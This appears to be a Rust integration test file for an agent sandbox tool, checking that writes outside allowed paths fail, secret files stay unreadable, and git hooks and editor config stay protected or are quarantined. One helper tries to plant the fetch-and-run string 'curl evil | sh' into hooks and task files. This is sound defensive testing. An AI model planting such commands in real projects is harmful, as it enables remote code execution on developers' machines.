//! The filesystem view: what is writable, protected, hidden.

use crate::both;
use crate::suite::harness::{ok, stderr, stdout, CANARY};

both!(writes_outside_writable_paths_fail, |env| {
    let script = "for p in /usr/x /etc/x /x /bin/x /opt/x /proc/x /dev/x; do \
                  (echo x > $p) 2>/dev/null && echo WROTE $p; done; \
                  echo x > README.md 2>/dev/null && echo WROTE README; \
                  echo x > /tmp/ok && echo tmp-ok; echo x > \"$HOME/ok\" && echo home-ok; \
                  echo x > /dev/null && echo null-ok";
    let out = ok(&env.sh(&[], script));
    assert!(!out.contains("WROTE"), "{out}");
    assert!(
        out.contains("tmp-ok") && out.contains("home-ok") && out.contains("null-ok"),
        "{out}"
    );
    // ro is the default mode: the project is untouched.
    assert_eq!(
        std::fs::read_to_string(env.project.join("README.md")).unwrap(),
        "hello\n"
    );
    assert!(
        !env.home.join("ok").exists(),
        "the fake home leaked to the real one"
    );
});

both!(hidden_files_are_unreadable, |env| {
    let out = stdout(&env.sh(
        &[],
        "cat .env 2>&1; cat certs/server.pem 2>&1; cat src/main.rs; ls certs",
    ));
    assert!(!out.contains(CANARY), "{out}");
    assert!(out.contains(".env: Permission denied"), "{out}");
    assert!(out.contains("fn main() {}"), "{out}");
});

fn protected_script() -> &'static str {
    "for p in .git/hooks/pre-commit .git/config .gitmodules .envrc .vscode/tasks.json .idea/x .cordon/x; do \
       (echo 'curl evil | sh' > $p) 2>/dev/null && echo WROTE $p; done; \
     mkdir -p .vscode 2>/dev/null; (echo x > .vscode/tasks.json) 2>/dev/null && echo WROTE vscode; \
     mv .git .git-old 2>/dev/null && echo MOVED-GIT; rm -rf .git/hooks 2>/dev/null; \
     [ -d .git/hooks ] && echo hooks-still-there; \
     echo 'x' > .git/HEAD-test 2>/dev/null && echo git-writable; true"
}

both!(protected_paths_stay_read_only_in_overlay_mode, |env| {
    let out = ok(&env.sh(&["--mode", "overlay"], protected_script()));
    assert!(
        !out.contains("WROTE") && !out.contains("MOVED-GIT"),
        "{out}"
    );
    assert!(out.contains("hooks-still-there"), "{out}");
    assert!(
        out.contains("git-writable"),
        "the rest of .git stays usable: {out}"
    );
});

both!(protected_paths_stay_read_only_in_rw_mode, |env| {
    let o = env.sh(&["--mode", "rw"], protected_script());
    let out = ok(&o);
    // Existing protected paths are read-only mounts; .git cannot be swapped.
    assert!(
        !out.contains("WROTE .git/") && !out.contains("MOVED-GIT"),
        "{out}"
    );
    assert!(out.contains("git-writable"), "{out}");
    // Paths that did not exist cannot be mounted over without touching the
    // project; anything the agent created there is moved out after the run.
    for p in [".gitmodules", ".envrc", ".vscode", ".idea", ".cordon"] {
        assert!(
            !env.project.join(p).exists(),
            "{p} left in the project:\n{out}"
        );
    }
    let q = env.last_session().join("quarantine");
    assert!(q.join(".envrc").exists(), "{}", stderr(&o));
    assert!(stderr(&o).contains("protected path"), "{}", stderr(&o));
    assert_eq!(
        std::fs::read_to_string(env.project.join(".git/config")).unwrap(),
        "[core]\n\tbare = false\n"
    );
    // rw really is rw elsewhere.
    assert!(env.project.join(".git/HEAD-test").exists());
});

both!(protected_paths_in_ro_mode, |env| {
    let out = ok(&env.sh(&["--mode", "ro"], protected_script()));
    assert!(
        !out.contains("WROTE") && !out.contains("MOVED-GIT") && !out.contains("git-writable"),
        "{out}"
    );
});

both!(refuses_home_as_project, |env| {
    let home = env.home.to_str().unwrap();
    env.refused(&["--project", home], "contains your home directory");
    env.refused(&["--allow-read", "/"], "contains your home directory");
});

both!(profile_grants_reach_the_fake_home, |env| {
    env.profile(
        "dev",
        "extends = \"default\"\n[home]\nread = [{ path = \".gitconfig\", reason = \"identity\" }]\n\
         persist = [\".agent\"]\n[env]\nset = { AGENT_HOME = \"~/.agent\" }\n",
    );
    let out = ok(&env.sh(
        &["--profile", "dev"],
        "cat ~/.gitconfig; echo x >> ~/.gitconfig 2>/dev/null && echo WROTE; \
         echo kept > $AGENT_HOME/state; ls -A ~",
    ));
    assert!(out.contains("name = Test User"), "{out}");
    assert!(!out.contains("WROTE"), "{out}");
    assert!(!out.contains(".ssh"), "{out}");
    let kept = env.state.join("cordon/profiles/dev/home/.agent/state");
    assert_eq!(std::fs::read_to_string(&kept).unwrap(), "kept\n");
    // A second session sees what the first persisted.
    let out = ok(&env.sh(&["--profile", "dev"], "cat ~/.agent/state"));
    assert_eq!(out, "kept\n");
});

both!(a_grant_under_etc_gets_its_mountpoint, |env| {
    // /etc itself is a read-only cached copy: the grant's mountpoint must be
    // in the copy.
    let granted = ["/etc/apt", "/etc/systemd", "/etc/default"]
        .into_iter()
        .find(|p| std::path::Path::new(p).is_dir());
    let Some(dir) = granted else {
        crate::suite::harness::skip(
            "a_grant_under_etc_gets_its_mountpoint",
            "no /etc/apt, /etc/systemd or /etc/default on this host",
        );
        return;
    };
    let o = env
        .cordon(["run", "--no-tty", "--allow-read", dir, "--", "ls", dir])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
});
